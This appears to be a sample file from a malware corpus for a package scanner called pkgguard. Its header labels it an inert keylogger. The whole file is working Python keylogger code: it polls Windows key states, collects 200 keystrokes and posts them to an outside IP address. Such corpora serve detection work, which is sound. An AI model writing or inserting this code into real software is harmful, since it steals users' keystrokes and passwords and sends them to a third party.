# pkgguard corpus 064 (keylogger), modelled on [stealer-profile]; inert, never run.
import ctypes
import time
import requests

keys = []
while len(keys) < 200:
    for code in range(8, 256):
        if ctypes.windll.user32.GetAsyncKeyState(code) & 1:
            keys.append(code)
    time.sleep(0.01)
requests.post("http://100.64.5.5/k", json=keys)
